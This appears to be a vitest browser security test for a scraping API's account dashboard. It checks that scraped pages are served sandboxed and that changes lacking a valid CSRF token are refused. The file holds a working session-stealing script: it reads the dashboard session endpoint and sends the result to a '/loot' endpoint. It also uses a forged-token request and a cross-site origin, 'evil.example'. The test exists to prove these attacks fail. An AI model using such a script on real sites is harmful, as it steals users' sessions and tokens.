import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'puppeteer-core';
import { startDashboardBrowser, startFixtureServer, type DashboardBrowser, type FixtureServer, type TestStack } from '@app/testkit';

// What a signed-in owner's dashboard session is kept from, in a real browser (Debian's Chromium) against the
// whole stack: a page someone scraped through the API, opened by the owner, runs no script where it could
// read the session; a change without the session's CSRF token (or from another site) is refused.

/** Where /steal's script ran, each time it did (and what it read there, after a space). */
const loot: string[] = [];
const stealingPage = (home: string) => `<title>Scraped</title><p>An ordinary page.</p><script>
  window.__ran = true;
  const home = ${JSON.stringify(home)};
  fetch('/dashboard/api/session', { credentials: 'include' })
    .then((r) => r.text(), () => 'unreadable')
    .then((text) => fetch(home + '/loot?from=' + encodeURIComponent(location.origin + ' ' + text)));
</script>`;

let dashboard: DashboardBrowser;
let stack: TestStack;
let fixture: FixtureServer;
let admin: DashboardBrowser['admin'];
let browser: Browser;
let page: Page;
let base: string;

beforeAll(async () => {
  fixture = await startFixtureServer({
    // Someone else's page, scraped through the API: its script reads the dashboard's session (CSRF token
    // included) from whatever origin it runs on and sends it home.
    '/steal': (req, res) => void res.writeHead(200, { 'content-type': 'text/html' }).end(stealingPage(`http://${req.headers.host}`)),
    '/loot': (req, res) => {
      loot.push(new URL(req.url ?? '/', 'http://fixture').searchParams.get('from') ?? '');
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    },
  });
  dashboard = await startDashboardBrowser({ owner: 'Dashboard owner' });
  ({ stack, admin, browser, page, base } = dashboard);
}, 180_000);

afterAll(async () => {
  await dashboard?.stop();
  await fixture?.close();
});

const call = (method: string, path: string, o: { headers?: Record<string, string>; json?: unknown } = {}) => stack.call(method, path, o);
const cookieHeader = (token: string) => ({ cookie: `dashboard_session=${token}` });
const sessionCookie = async () => (await page.cookies()).find((c) => c.name === 'dashboard_session')?.value;

describe('Account dashboard: what its session is kept from', () => {
  describe('When the signed-in owner opens a page someone scraped through the API', () => {
    it("should show it without running its scripts, so nothing on the dashboard's origin can be read", async () => {
      const other = await admin.create('scale', 'Another account');
      const stealing = `${fixture.origin}/steal`;
      const tab = await browser.newPage();
      try {
        // The script works: opened at its own origin it runs (and can read nothing of ours).
        await tab.goto(stealing, { waitUntil: 'load' });
        expect(await tab.evaluate(() => (window as unknown as { __ran?: boolean }).__ran)).toBe(true);
        // A render link anyone can make with their own key, opened by the signed-in owner.
        const link = `${base}/v1/scrape?${new URLSearchParams({ access_key: other.accessKey, url: stealing })}`;
        const opened = await tab.goto(link, { waitUntil: 'load' });
        expect(opened!.status()).toBe(200);
        expect(await tab.$eval('p', (el) => el.textContent)).toBe('An ordinary page.');
        // Had its script run, its report would be here by now (the fixture answers on loopback at once).
        await new Promise((r) => setTimeout(r, 1_000));
        expect(loot.filter((from) => from.startsWith(base))).toEqual([]);
        expect(await tab.evaluate(() => [self.origin, (window as unknown as { __ran?: boolean }).__ran ?? false])).toEqual(['null', false]);
        expect(opened!.headers()['content-security-policy']).toBe('sandbox');
      } finally {
        await tab.close();
        await page.bringToFront();
      }
    });
  });

  describe('When a change comes without the CSRF token', () => {
    it('should be refused, and accepted with it', async () => {
      const token = (await sessionCookie())!;
      const without = await call('POST', '/dashboard/api/keys/secret', { headers: cookieHeader(token) });
      expect(without.status).toBe(403);
      expect(without.json()).toMatchObject({ code: 'csrf_token_invalid' });
      const wrong = await call('PUT', '/dashboard/api/keys/signatures', { headers: { ...cookieHeader(token), 'x-csrf-token': 'forged' }, json: { required: true } });
      expect(wrong.status).toBe(403);
      const { csrf_token } = (await call('GET', '/dashboard/api/session', { headers: cookieHeader(token) })).json<{ csrf_token: string }>();
      const crossSite = await call('POST', '/dashboard/api/keys/secret', {
        headers: { ...cookieHeader(token), 'x-csrf-token': csrf_token, origin: 'https://evil.example' },
      });
      expect(crossSite.status).toBe(403);
      const withToken = await call('POST', '/dashboard/api/keys/secret', { headers: { ...cookieHeader(token), 'x-csrf-token': csrf_token } });
      expect(withToken.status).toBe(200);
    });
  });
});
